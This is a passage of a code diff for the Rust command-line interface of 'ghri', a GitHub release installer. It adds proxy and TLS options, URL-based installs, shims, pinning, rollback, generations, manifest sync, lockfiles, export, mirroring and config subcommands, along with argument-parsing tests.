@@ -1,6 +1,10 @@
-use anyhow::Result;
+use anyhow::{Context, Result};
 use clap::Parser;
-use ghri::commands::{Config, InstallOptions, UpgradeOptions, install};
+use ghri::commands::{
+    Config, ConfigFile, ExportOptions, InstallOptions, MirrorOptions, SyncOptions, UpgradeOptions,
+    config_get, config_list, config_set, config_unset, install,
+};
+use ghri::domain::model::{Shim, UpgradePolicy, UrlSource, VersionDiscovery};
 use std::path::PathBuf;
 use tracing_subscriber::EnvFilter;
 use tracing_subscriber::prelude::*;
@@ -22,20 +26,94 @@ struct Cli {
     command: Commands,
 
     /// Install root directory (overrides defaults; also via GHRI_ROOT)
+    #[arg(long = "root", short = 'r', value_name = "PATH", global = true)]
+    pub install_root: Option<PathBuf>,
+
+    #[command(flatten)]
+    pub network: NetworkArgs,
+}
+
+impl Cli {
+    /// Configuration values given on the command line (highest precedence layer)
+    fn config_layer(&self) -> ConfigFile {
+        let mut layer = ConfigFile {
+            install_root: self.install_root.clone(),
+            ..Default::default()
+        };
+        self.network.apply_to(&mut layer);
+
+        // Boolean flags can only switch a behavior on; absent flags fall through
+        let (pre, prune) = match &self.command {
+            Commands::Install(args) => {
+                layer.api_url = args.api_url.clone();
+                (args.pre, args.prune)
+            }
+            Commands::Upgrade(args) => (args.pre, args.prune),
+            Commands::Mirror(MirrorArgs {
+                action: MirrorAction::Create { api_url, pre, .. },
+            }) => {
+                layer.api_url = api_url.clone();
+                (*pre, false)
+            }
+            _ => (false, false),
+        };
+        layer.pre = pre.then_some(true);
+        layer.prune = prune.then_some(true);
+        layer
+    }
+}
+
+/// Proxy and TLS options shared by all commands that access the network
+#[derive(clap::Args, Debug, Default)]
+#[command(next_help_heading = "Network options")]
+pub struct NetworkArgs {
+    /// Proxy URL for all requests (also via GHRI_PROXY, HTTPS_PROXY or ALL_PROXY)
+    #[arg(long = "proxy", value_name = "URL", global = true)]
+    pub proxy: Option<String>,
+
+    /// Comma-separated hosts that bypass the proxy (also via GHRI_NO_PROXY or NO_PROXY)
+    #[arg(long = "no-proxy", value_name = "HOSTS", global = true)]
+    pub no_proxy: Option<String>,
+
+    /// Extra root CA certificates, PEM file or directory (can be repeated; also via GHRI_CA_CERT)
     #[arg(
-        long = "root",
-        short = 'r',
-        env = "GHRI_ROOT",
+        long = "ca-cert",
         value_name = "PATH",
+        value_delimiter = ',',
         global = true
     )]
-    pub install_root: Option<PathBuf>,
+    pub ca_certs: Vec<PathBuf>,
+
+    /// Client certificate for mutual TLS, PEM (also via GHRI_CLIENT_CERT)
+    #[arg(long = "client-cert", value_name = "PATH", global = true)]
+    pub client_cert: Option<PathBuf>,
+
+    /// Private key for the client certificate, PEM (also via GHRI_CLIENT_KEY)
+    #[arg(long = "client-key", value_name = "PATH", global = true)]
+    pub client_key: Option<PathBuf>,
+
+    /// Do not verify TLS certificates, for lab setups only (also via GHRI_INSECURE)
+    #[arg(long = "insecure", global = true)]
+    pub insecure: bool,
+}
+
+impl NetworkArgs {
+    /// Copy the options given on the command line into a configuration layer
+    fn apply_to(&self, layer: &mut ConfigFile) {
+        let http = &mut layer.http;
+        http.proxy.clone_from(&self.proxy);
+        http.no_proxy.clone_from(&self.no_proxy);
+        http.ca_certs = (!self.ca_certs.is_empty()).then(|| self.ca_certs.clone());
+        http.client_cert.clone_from(&self.client_cert);
+        http.client_key.clone_from(&self.client_key);
+        http.insecure = self.insecure.then_some(true);
+    }
 }
 
 #[derive(clap::Subcommand, Debug)]
 enum Commands {
     /// Install a package from GitHub
-    Install(InstallArgs),
+    Install(Box<InstallArgs>),
 
     /// Update release information for all installed packages
     Update(UpdateArgs),
@@ -63,11 +141,45 @@ enum Commands {
 
     /// Remove unused versions, keeping only the current version
     Prune(PruneArgs),
+
+    /// Hold a package at a version so upgrades skip it
+    Pin(PinArgs),
+
+    /// Release a pinned package
+    Unpin(UnpinArgs),
+
+    /// Show or set the default upgrade policy of a package
+    Policy(PolicyArgs),
+
+    /// Switch a package back to its previously active version
+    Rollback(RollbackArgs),
+
+    /// Switch to an installed version without network access
+    Use(UseArgs),
+
+    /// List or restore snapshots of all installed packages
+    Generations(GenerationsArgs),
+
+    /// Show or change configuration settings
+    Config(ConfigArgs),
+
+    /// Install, upgrade or downgrade packages to match a manifest file
+    Sync(SyncArgs),
+
+    /// Resolve manifest packages to exact releases and write the lockfile
+    Lock(LockArgs),
+
+    /// Write the installed packages as a manifest for `ghri sync`
+    Export(ExportArgs),
+
+    /// Keep an offline copy of releases that install can use as its source
+    Mirror(MirrorArgs),
 }
 
 #[derive(clap::Args, Debug)]
 pub struct InstallArgs {
-    /// The GitHub repository in the format "owner/repo" or "owner/repo@version"
+    /// The GitHub repository in the format "owner/repo" or "owner/repo@version",
+    /// or a local release artifact (./tool.tar.gz, file:///...) together with --as
     #[arg(value_name = "OWNER/REPO[@VERSION]")]
     pub repo: String,
 
@@ -91,6 +203,121 @@ pub struct InstallArgs {
     /// Remove other versions after successful installation
     #[arg(long = "prune")]
     pub prune: bool,
+
+    /// Link every executable of the package into this directory, saved for upgrades
+    /// (default: the configured bin_dir)
+    #[arg(long = "bin-dir", value_name = "DIR")]
+    pub bin_dir: Option<PathBuf>,
+
+    /// Only follow releases whose tag matches this glob, saved for upgrades
+    /// Example: --tag-pattern "cli-v*" (versions are shown without "cli-v")
+    #[arg(long = "tag-pattern", value_name = "PATTERN")]
+    pub tag_pattern: Option<String>,
+
+    /// Install as a separate package named OWNER/ALIAS, with its own filters and links
+    /// Example: --as rg-musl (installs BurntSushi/ripgrep as BurntSushi/rg-musl)
+    /// For a local artifact, the package and version: --as owner/tool@1.2.3
+    #[arg(long = "as", value_name = "ALIAS")]
+    pub alias: Option<String>,
+
+    /// Download from plain HTTPS instead of a forge, using a URL template
+    /// Placeholders: {version}, {os} (linux/macos/windows) and {arch} (x86_64/aarch64)
+    #[arg(long = "url", value_name = "TEMPLATE")]
+    pub url: Option<String>,
+
+    /// Page or JSON document listing the versions of a --url package
+    #[arg(long = "versions-url", value_name = "URL", requires = "url")]
+    pub versions_url: Option<String>,
+
+    /// Regex whose first capture group is a version, matched on the --versions-url page
+    #[arg(
+        long = "version-regex",
+        value_name = "REGEX",
+        requires = "versions_url"
+    )]
+    pub version_regex: Option<String>,
+
+    /// JSONPath selecting versions in the --versions-url document (e.g., "$.releases[*].version")
+    #[arg(
+        long = "version-path",
+        value_name = "JSONPATH",
+        requires = "versions_url",
+        conflicts_with = "version_regex"
+    )]
+    pub version_path: Option<String>,
+
+    /// Fixed list of versions of a --url package, comma separated
+    #[arg(
+        long = "versions",
+        value_name = "VERSIONS",
+        value_delimiter = ',',
+        requires = "url",
+        conflicts_with = "versions_url"
+    )]
+    pub versions: Vec<String>,
+
+    /// Name used for {os} in the --url template (can be specified multiple times)
+    /// Example: --url-os macos=darwin
+    #[arg(long = "url-os", value_name = "OS=NAME", value_parser = parse_key_value)]
+    pub url_os: Vec<(String, String)>,
+
+    /// Name used for {arch} in the --url template (can be specified multiple times)
+    /// Example: --url-arch x86_64=amd64
+    #[arg(long = "url-arch", value_name = "ARCH=NAME", value_parser = parse_key_value)]
+    pub url_arch: Vec<(String, String)>,
+}
+
+impl InstallArgs {
+    /// URL source described by the --url options, if any
+    fn url_source(&self) -> Result<Option<UrlSource>> {
+        let Some(url) = &self.url else {
+            return Ok(None);
+        };
+        let versions = match (&self.versions_url, &self.version_regex, &self.version_path) {
+            (Some(url), Some(regex), None) => VersionDiscovery::Listing {
+                url: url.clone(),
+                regex: regex.clone(),
+            },
+            (Some(url), None, Some(path)) => VersionDiscovery::Json {
+                url: url.clone(),
+                path: path.clone(),
+            },
+            (None, None, None) if !self.versions.is_empty() => VersionDiscovery::List {
+                versions: self.versions.clone(),
+            },
+            _ => anyhow::bail!(
+                "--url needs --versions, or --versions-url with --version-regex or --version-path"
+            ),
+        };
+        Ok(Some(UrlSource {
+            url: url.clone(),
+            versions,
+            os: self.url_os.iter().cloned().collect(),
+            arch: self.url_arch.iter().cloned().collect(),
+        }))
+    }
+}
+
+/// Parse a `KEY=VALUE` argument
+fn parse_key_value(s: &str) -> Result<(String, String), String> {
+    match s.split_once('=') {
+        Some((key, value)) if !key.is_empty() && !value.is_empty() => {
+            Ok((key.to_string(), value.to_string()))
+        }
+        _ => Err(format!("expected KEY=VALUE, got '{}'", s)),
+    }
+}
+
+/// Parse a `KEY=VALUE` environment variable for a shim
+fn parse_env_var(s: &str) -> Result<(String, String), String> {
+    let (key, value) = parse_key_value(s)?;
+    if !Shim::is_valid_env_name(&key) {
+        return Err(format!(
+            "invalid variable name '{}', expected [A-Za-z_][A-Za-z0-9_]*",
+            key
+        ));
+    }
+    Ok((key, value))
 }
 
 #[derive(clap::Args, Debug)]
@@ -117,6 +344,33 @@ pub struct UpgradeArgs {
     /// Remove other versions after successful upgrade
     #[arg(long = "prune")]
     pub prune: bool,
+
+    /// Only take upgrades within the installed major.minor version
+    #[arg(long = "patch", conflicts_with_all = ["minor", "major"])]
+    pub patch: bool,
+
+    /// Only take upgrades within the installed major version
+    #[arg(long = "minor", conflicts_with = "major")]
+    pub minor: bool,
+
+    /// Take any upgrade, ignoring saved upgrade policies
+    #[arg(long = "major")]
+    pub major: bool,
+}
+
+impl UpgradeArgs {
+    /// Upgrade policy selected on the command line, if any
+    fn policy(&self) -> Option<UpgradePolicy> {
+        if self.patch {
+            Some(UpgradePolicy::Patch)
+        } else if self.minor {
+            Some(UpgradePolicy::Minor)
+        } else if self.major {
+            Some(UpgradePolicy::Major)
+        } else {
+            None
+        }
+    }
 }
 
 #[derive(clap::Args, Debug)]
@@ -128,9 +382,47 @@ pub struct LinkArgs {
     #[arg(value_name = "OWNER/REPO[@VERSION][:PATH]")]
     pub repo: String,
 
-    /// Destination path for the symlink
+    /// Destination path for the symlink (default: the configured link_dir)
     #[arg(value_name = "DEST")]
-    pub dest: PathBuf,
+    pub dest: Option<PathBuf>,
+
+    /// Write a launcher script that runs the target instead of a symlink
+    #[arg(long = "shim")]
+    pub shim: bool,
+
+    /// Environment variable the shim sets (can be specified multiple times)
+    /// Example: --env TOOL_HOME=/opt/tool
+    #[arg(long = "env", value_name = "KEY=VALUE", value_parser = parse_env_var, requires = "shim")]
+    pub env: Vec<(String, String)>,
+
+    /// Argument the shim passes before the caller's arguments (can be specified multiple times)
+    #[arg(
+        long = "arg",
+        value_name = "ARG",
+        allow_hyphen_values = true,
+        requires = "shim"
+    )]
+    pub args: Vec<String>,
+
+    /// Place a symlink, a copy or a hard link at the destination
+    #[arg(
+        long = "mode",
+        value_name = "MODE",
+        default_value = "symlink",
+        value_parser = ["symlink", "copy", "hardlink"],
+        conflicts_with = "shim"
+    )]
+    pub mode: String,
+}
+
+impl LinkArgs {
+    /// Shim settings, when a shim was requested
+    fn shim(&self) -> Option<Shim> {
+        self.shim.then(|| Shim {
+            env: self.env.iter().cloned().collect(),
+            args: self.args.clone(),
+        })
+    }
 }
 
 #[derive(clap::Args, Debug)]
@@ -188,6 +480,222 @@ pub struct PruneArgs {
     pub yes: bool,
 }
 
+#[derive(clap::Args, Debug)]
+pub struct PinArgs {
+    /// The package to pin, optionally with a version (default: current version)
+    #[arg(value_name = "OWNER/REPO[@VERSION]")]
+    pub repo: String,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct UnpinArgs {
+    /// The GitHub repository in the format "owner/repo"
+    #[arg(value_name = "OWNER/REPO")]
+    pub repo: String,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct PolicyArgs {
+    /// The GitHub repository in the format "owner/repo"
+    #[arg(value_name = "OWNER/REPO")]
+    pub repo: String,
+
+    /// New policy; "none" removes it (default: show the current policy)
+    #[arg(value_name = "POLICY", value_parser = ["patch", "minor", "major", "none"])]
+    pub policy: Option<String>,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct RollbackArgs {
+    /// The GitHub repository in the format "owner/repo"
+    #[arg(value_name = "OWNER/REPO")]
+    pub repo: String,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct UseArgs {
+    /// The package and installed version; without a version, lists installed versions
+    #[arg(value_name = "OWNER/REPO[@VERSION]")]
+    pub repo: String,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct GenerationsArgs {
+    #[command(subcommand)]
+    pub action: GenerationsAction,
+}
+
+#[derive(clap::Subcommand, Debug)]
+pub enum GenerationsAction {
+    /// List recorded generations; `*` marks the one matching the installed packages
+    List,
+
+    /// Restore the versions and links of every package in a generation
+    Switch {
+        /// Generation number
+        #[arg(value_name = "N")]
+        id: u32,
+    },
+
+    /// Delete generations so prune can remove the versions only they use
+    Delete {
+        /// Generation numbers
+        #[arg(value_name = "N", required = true)]
+        ids: Vec<u32>,
+    },
+}
+
+#[derive(clap::Args, Debug)]
+pub struct SyncArgs {
+    /// Manifest file listing the packages to install
+    #[arg(
+        long = "file",
+        short = 'f',
+        value_name = "PATH",
+        default_value = "ghri.toml"
+    )]
+    pub file: PathBuf,
+
+    /// Remove installed packages that are not listed in the manifest
+    #[arg(long = "remove-unlisted")]
+    pub remove_unlisted: bool,
+
+    /// Install exactly the releases and files recorded in the lockfile
+    #[arg(long = "locked")]
+    pub locked: bool,
+
+    /// Skip confirmation prompt
+    #[arg(long = "yes", short = 'y')]
+    pub yes: bool,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct LockArgs {
+    /// Manifest file listing the packages to lock
+    #[arg(
+        long = "file",
+        short = 'f',
+        value_name = "PATH",
+        default_value = "ghri.toml"
+    )]
+    pub file: PathBuf,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct MirrorArgs {
+    #[command(subcommand)]
+    pub action: MirrorAction,
+}
+
+#[derive(clap::Subcommand, Debug)]
+pub enum MirrorAction {
+    /// Download releases into a mirror directory
+    Create {
+        /// Mirror directory
+        #[arg(value_name = "DIR")]
+        dir: PathBuf,
+
+        /// Repositories as "owner/repo" (latest release), "owner/repo@version"
+        /// or "owner/repo@range" (every release in the range)
+        #[arg(value_name = "OWNER/REPO[@VERSION]", required = true)]
+        packages: Vec<String>,
+
+        /// Only mirror assets matching a glob pattern (default: all platforms)
+        #[arg(long = "filter", short = 'f', value_name = "PATTERN")]
+        filters: Vec<String>,
+
+        /// Include pre-releases
+        #[arg(long = "pre")]
+        pre: bool,
+
+        /// API URL to mirror from (also via GHRI_API_URL)
+        #[arg(long = "api-url", env = "GHRI_API_URL", value_name = "URL")]
+        api_url: Option<String>,
+    },
+
+    /// Add new releases to the repositories of a mirror directory
+    Update {
+        /// Mirror directory
+        #[arg(value_name = "DIR")]
+        dir: PathBuf,
+
+        /// Only update these repositories
+        #[arg(value_name = "OWNER/REPO")]
+        repos: Vec<String>,
+    },
+
+    /// Serve a mirror directory over a GitHub-compatible API
+    Serve {
+        /// Mirror directory
+        #[arg(value_name = "DIR")]
+        dir: PathBuf,
+
+        /// Address to listen on
+        #[arg(long = "listen", value_name = "ADDR", default_value = "127.0.0.1:8080")]
+        listen: String,
+    },
+}
+
+#[derive(clap::Args, Debug)]
+pub struct ExportArgs {
+    /// Output format (default: from the output file name, else toml)
+    #[arg(long = "format", value_parser = ["toml", "json"])]
+    pub format: Option<String>,
+
+    /// Write the manifest to a file instead of standard output
+    #[arg(long = "output", short = 'o', value_name = "PATH")]
+    pub output: Option<PathBuf>,
+}
+
+#[derive(clap::Args, Debug)]
+pub struct ConfigArgs {
+    #[command(subcommand)]
+    pub action: ConfigAction,
+}
+
+#[derive(clap::Subcommand, Debug)]
+pub enum ConfigAction {
+    /// List all effective settings and where they come from
+    List,
+
+    /// Show the effective value of a setting
+    Get {
+        /// Setting name (e.g., install_root, http.proxy, hosts.github.com.token)
+        #[arg(value_name = "KEY")]
+        key: String,
+
+        /// Also show where the value comes from
+        #[arg(long = "show-origin")]
+        show_origin: bool,
+    },
+
+    /// Set a value in the user config file
+    Set {
+        /// Setting name (e.g., install_root, http.proxy, hosts.github.com.token)
+        #[arg(value_name = "KEY")]
+        key: String,
+
+        /// New value (lists are comma-separated)
+        #[arg(value_name = "VALUE")]
+        value: String,
+
+        /// Write to the system-wide config file instead
+        #[arg(long = "system")]
+        system: bool,
+    },
+
+    /// Remove a value from the user config file
+    Unset {
+        /// Setting name
+        #[arg(value_name = "KEY")]
+        key: String,
+
+        /// Remove from the system-wide config file instead
+        #[arg(long = "system")]
+        system: bool,
+    },
+}
+
 #[tokio::main]
 #[tracing::instrument]
 async fn main() -> Result<()> {
@@ -198,46 +706,60 @@ async fn main() -> Result<()> {
     let cli = Cli::parse();
     let runtime = ghri::runtime::RealRuntime;
 
-    // Load config once, with optional install_root override from CLI
-    let mut config = Config::load(&runtime, cli.install_root, None)?;
+    let cli_layer = cli.config_layer();
+
+    // The config command works on the configuration layers themselves
+    if let Commands::Config(args) = cli.command {
+        return match args.action {
+            ConfigAction::List => config_list(runtime, cli_layer),
+            ConfigAction::Get { key, show_origin } => {
+                config_get(runtime, cli_layer, &key, show_origin)
+            }
+            ConfigAction::Set { key, value, system } => config_set(runtime, &key, &value, system),
+            ConfigAction::Unset { key, system } => config_unset(runtime, &key, system),
+        };
+    }
+
+    // Load config once: command line > environment > config files > defaults
+    let config = Config::load(&runtime, cli_layer)?;
 
     match cli.command {
         Commands::Install(args) => {
-            // Install command can override api_url
-            if let Some(api_url) = args.api_url {
-                config.api_url = api_url;
-            }
-            install(
-                runtime,
-                &args.repo,
-                config,
-                InstallOptions {
-                    filters: args.filters,
-                    pre: args.pre,
-                    yes: args.yes,
-                    prune: args.prune,
-                    original_args: std::env::args().collect(),
-                },
-            )
-            .await?
+            let url_source = args.url_source()?;
+            let options = InstallOptions {
+                filters: args.filters,
+                default_filters: config.filters.clone(),
+                pre: config.pre,
+                yes: args.yes,
+                prune: config.prune,
+                tag_pattern: args.tag_pattern,
+                url_source,
+                alias: args.alias,
+                bin_dir: args.bin_dir,
+                default_bin_dir: config.bin_dir.clone(),
+                original_args: std::env::args().collect(),
+            };
+            install(runtime, &args.repo, config, options).await?
         }
         Commands::Update(args) => ghri::commands::update(runtime, config, args.repos).await?,
         Commands::Upgrade(args) => {
-            ghri::commands::upgrade(
-                runtime,
-                config,
-                args.repos,
-                UpgradeOptions {
-                    pre: args.pre,
-                    yes: args.yes,
-                    prune: args.prune,
-                    ..Default::default()
-                },
-            )
-            .await?
+            let options = UpgradeOptions {
+                pre: config.pre,
+                yes: args.yes,
+                prune: config.prune,
+                policy: args.policy(),
+            };
+            ghri::commands::upgrade(runtime, config, args.repos, options).await?
         }
         Commands::List(_args) => ghri::commands::list(runtime, config)?,
-        Commands::Link(args) => ghri::commands::link(runtime, &args.repo, args.dest, config)?,
+        Commands::Link(args) => {
+            let shim = args.shim();
+            let dest = args.dest.or_else(|| config.link_dir.clone()).context(
+                "No destination given. Pass DEST or set link_dir with: ghri config set link_dir <DIR>",
+            )?;
+            let mode = args.mode.parse()?;
+            ghri::commands::link(runtime, &args.repo, dest, shim, mode, config)?
+        }
         Commands::Unlink(args) => {
             ghri::commands::unlink(runtime, &args.repo, args.dest, args.all, config)?
         }
@@ -247,7 +769,68 @@ async fn main() -> Result<()> {
         }
         Commands::Show(args) => ghri::commands::show(runtime, &args.repo, config)?,
         Commands::Prune(args) => ghri::commands::prune(runtime, args.repos, args.yes, config)?,
+        Commands::Pin(args) => ghri::commands::pin(runtime, &args.repo, config)?,
+        Commands::Unpin(args) => ghri::commands::unpin(runtime, &args.repo, config)?,
+        Commands::Policy(args) => {
+            let policy = match args.policy.as_deref() {
+                None => None,
+                Some("none") => Some(None),
+                Some(policy) => Some(Some(policy.parse()?)),
+            };
+            ghri::commands::policy(runtime, &args.repo, policy, config)?
+        }
+        Commands::Rollback(args) => ghri::commands::rollback(runtime, &args.repo, config)?,
+        Commands::Use(args) => ghri::commands::use_version(runtime, &args.repo, config)?,
+        Commands::Generations(args) => match args.action {
+            GenerationsAction::List => ghri::commands::generations_list(runtime, config)?,
+            GenerationsAction::Switch { id } => {
+                ghri::commands::generations_switch(runtime, id, config)?
+            }
+            GenerationsAction::Delete { ids } => {
+                ghri::commands::generations_delete(runtime, &ids, config)?
+            }
+        },
+        Commands::Sync(args) => {
+            let options = SyncOptions {
+                manifest: args.file,
+                remove_unlisted: args.remove_unlisted,
+                locked: args.locked,
+                yes: args.yes,
+            };
+            ghri::commands::sync(runtime, config, options).await?
+        }
+        Commands::Lock(args) => ghri::commands::lock(runtime, config, args.file).await?,
+        Commands::Export(args) => {
+            let options = ExportOptions {
+                format: args.format.as_deref().map(str::parse).transpose()?,
+                output: args.output,
+            };
+            ghri::commands::export(runtime, config, options)?
+        }
+        Commands::Mirror(args) => match args.action {
+            MirrorAction::Create {
+                dir,
+                packages,
+                filters,
+                ..
+            } => {
+                let options = MirrorOptions {
+                    dir,
+                    packages,
+                    filters,
+                };
+                ghri::commands::mirror_create(runtime, config, options).await?
+            }
+            MirrorAction::Update { dir, repos } => {
+                ghri::commands::mirror_update(runtime, config, dir, repos).await?
+            }
+            MirrorAction::Serve { dir, listen } => {
+                ghri::commands::mirror_serve(runtime, dir, listen).await?
+            }
+        },
+        Commands::Config(_) => unreachable!("handled above"),
     }
+
     Ok(())
 }
 
@@ -278,6 +861,121 @@ mod tests {
         assert_eq!(cli.install_root, None);
     }
 
+    #[test]
+    fn test_cli_sync_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "sync"]).unwrap();
+        match cli.command {
+            Commands::Sync(args) => {
+                assert_eq!(args.file, PathBuf::from("ghri.toml"));
+                assert!(!args.remove_unlisted);
+                assert!(!args.locked);
+                assert!(!args.yes);
+            }
+            _ => panic!("Expected Sync command"),
+        }
+
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "sync",
+            "-f",
+            "tools.toml",
+            "--remove-unlisted",
+            "--locked",
+            "-y",
+        ])
+        .unwrap();
+        match cli.command {
+            Commands::Sync(args) => {
+                assert_eq!(args.file, PathBuf::from("tools.toml"));
+                assert!(args.remove_unlisted);
+                assert!(args.locked);
+                assert!(args.yes);
+            }
+            _ => panic!("Expected Sync command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_lock_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "lock", "--file", "tools.toml"]).unwrap();
+        match cli.command {
+            Commands::Lock(args) => assert_eq!(args.file, PathBuf::from("tools.toml")),
+            _ => panic!("Expected Lock command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_mirror_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "mirror",
+            "create",
+            "/srv/mirror",
+            "owner/tool@^1",
+            "owner/other",
+            "-f",
+            "*linux*",
+            "--pre",
+        ])
+        .unwrap();
+        assert_eq!(cli.config_layer().pre, Some(true));
+        match cli.command {
+            Commands::Mirror(MirrorArgs {
+                action:
+                    MirrorAction::Create {
+                        dir,
+                        packages,
+                        filters,
+                        ..
+                    },
+            }) => {
+                assert_eq!(dir, PathBuf::from("/srv/mirror"));
+                assert_eq!(packages, vec!["owner/tool@^1", "owner/other"]);
+                assert_eq!(filters, vec!["*linux*"]);
+            }
+            _ => panic!("Expected Mirror create command"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "mirror", "update", "/srv/mirror"]).unwrap();
+        match cli.command {
+            Commands::Mirror(MirrorArgs {
+                action: MirrorAction::Update { dir, repos },
+            }) => {
+                assert_eq!(dir, PathBuf::from("/srv/mirror"));
+                assert!(repos.is_empty());
+            }
+            _ => panic!("Expected Mirror update command"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "mirror", "serve", "/srv/mirror"]).unwrap();
+        match cli.command {
+            Commands::Mirror(MirrorArgs {
+                action: MirrorAction::Serve { dir, listen },
+            }) => {
+                assert_eq!(dir, PathBuf::from("/srv/mirror"));
+                assert_eq!(listen, "127.0.0.1:8080");
+            }
+            _ => panic!("Expected Mirror serve command"),
+        }
+
+        assert!(Cli::try_parse_from(["ghri", "mirror", "create", "/srv/mirror"]).is_err());
+    }
+
+    #[test]
+    fn test_cli_export_parsing() {
+        let cli =
+            Cli::try_parse_from(["ghri", "export", "--format", "json", "-o", "x.json"]).unwrap();
+        match cli.command {
+            Commands::Export(args) => {
+                assert_eq!(args.format.as_deref(), Some("json"));
+                assert_eq!(args.output, Some(PathBuf::from("x.json")));
+            }
+            _ => panic!("Expected Export command"),
+        }
+
+        assert!(Cli::try_parse_from(["ghri", "export", "--format", "yaml"]).is_err());
+    }
+
     #[test]
     fn test_cli_upgrade_parsing() {
         let cli = Cli::try_parse_from(["ghri", "upgrade"]).unwrap();
@@ -336,6 +1034,77 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_cli_upgrade_policy_flags() {
+        let cli = Cli::try_parse_from(["ghri", "upgrade", "--minor"]).unwrap();
+        match cli.command {
+            Commands::Upgrade(args) => assert_eq!(args.policy(), Some(UpgradePolicy::Minor)),
+            _ => panic!("Expected Upgrade command"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "upgrade"]).unwrap();
+        match cli.command {
+            Commands::Upgrade(args) => assert_eq!(args.policy(), None),
+            _ => panic!("Expected Upgrade command"),
+        }
+
+        assert!(Cli::try_parse_from(["ghri", "upgrade", "--patch", "--major"]).is_err());
+    }
+
+    #[test]
+    fn test_cli_policy_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "policy", "owner/repo", "patch"]).unwrap();
+        match cli.command {
+            Commands::Policy(args) => {
+                assert_eq!(args.repo, "owner/repo");
+                assert_eq!(args.policy.as_deref(), Some("patch"));
+            }
+            _ => panic!("Expected Policy command"),
+        }
+
+        assert!(Cli::try_parse_from(["ghri", "policy", "owner/repo", "newest"]).is_err());
+    }
+
+    #[test]
+    fn test_cli_rollback_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "rollback", "owner/repo"]).unwrap();
+        match cli.command {
+            Commands::Rollback(args) => assert_eq!(args.repo, "owner/repo"),
+            _ => panic!("Expected Rollback command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_generations_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "generations", "switch", "3"]).unwrap();
+        match cli.command {
+            Commands::Generations(args) => {
+                assert!(matches!(args.action, GenerationsAction::Switch { id: 3 }))
+            }
+            _ => panic!("Expected Generations command"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "generations", "delete", "1", "2"]).unwrap();
+        match cli.command {
+            Commands::Generations(args) => match args.action {
+                GenerationsAction::Delete { ids } => assert_eq!(ids, vec![1, 2]),
+                _ => panic!("Expected delete action"),
+            },
+            _ => panic!("Expected Generations command"),
+        }
+
+        assert!(Cli::try_parse_from(["ghri", "generations", "delete"]).is_err());
+    }
+
+    #[test]
+    fn test_cli_use_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "use", "owner/repo@v1.0.0"]).unwrap();
+        match cli.command {
+            Commands::Use(args) => assert_eq!(args.repo, "owner/repo@v1.0.0"),
+            _ => panic!("Expected Use command"),
+        }
+    }
+
     #[test]
     fn test_cli_install_with_prune_flag() {
         let cli = Cli::try_parse_from(["ghri", "install", "owner/repo", "--prune"]).unwrap();
@@ -347,6 +1116,110 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_cli_install_bin_dir_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "install",
+            "owner/repo",
+            "--bin-dir",
+            "/opt/tools/bin",
+        ])
+        .unwrap();
+        match cli.command {
+            Commands::Install(args) => {
+                assert_eq!(args.bin_dir, Some(PathBuf::from("/opt/tools/bin")));
+            }
+            _ => panic!("Expected Install command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_install_tag_pattern_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "install",
+            "owner/monorepo",
+            "--tag-pattern",
+            "cli-v*",
+        ])
+        .unwrap();
+        match cli.command {
+            Commands::Install(args) => {
+                assert_eq!(args.tag_pattern.as_deref(), Some("cli-v*"));
+            }
+            _ => panic!("Expected Install command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_install_alias_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "install",
+            "BurntSushi/ripgrep",
+            "--as",
+            "rg-musl",
+            "-f",
+            "*musl*",
+        ])
+        .unwrap();
+        match cli.command {
+            Commands::Install(args) => {
+                assert_eq!(args.repo, "BurntSushi/ripgrep");
+                assert_eq!(args.alias.as_deref(), Some("rg-musl"));
+            }
+            _ => panic!("Expected Install command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_install_url_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "install",
+            "vendor/tool",
+            "--url",
+            "https://dl.example.com/tool/{version}/tool-{os}-{arch}.tar.gz",
+            "--versions-url",
+            "https://dl.example.com/tool/index.json",
+            "--version-path",
+            "$.releases[*].version",
+            "--url-arch",
+            "x86_64=amd64",
+        ])
+        .unwrap();
+        let Commands::Install(args) = cli.command else {
+            panic!("Expected Install command");
+        };
+        let source = args.url_source().unwrap().unwrap();
+        assert_eq!(
+            source.versions,
+            VersionDiscovery::Json {
+                url: "https://dl.example.com/tool/index.json".into(),
+                path: "$.releases[*].version".into(),
+            }
+        );
+        assert_eq!(source.arch.get("x86_64").map(String::as_str), Some("amd64"));
+
+        // A template needs a way to find versions
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "install",
+            "vendor/tool",
+            "--url",
+            "https://x/{version}",
+        ])
+        .unwrap();
+        let Commands::Install(args) = cli.command else {
+            panic!("Expected Install command");
+        };
+        assert!(args.url_source().is_err());
+        assert!(
+            Cli::try_parse_from(["ghri", "install", "vendor/tool", "--versions", "1.0"]).is_err()
+        );
+    }
+
     #[test]
     fn test_cli_install_root_parsing() {
         let cli = Cli::try_parse_from(["ghri", "install", "owner/repo", "--root", "/tmp"]).unwrap();
@@ -476,10 +1349,87 @@ mod tests {
         match cli.command {
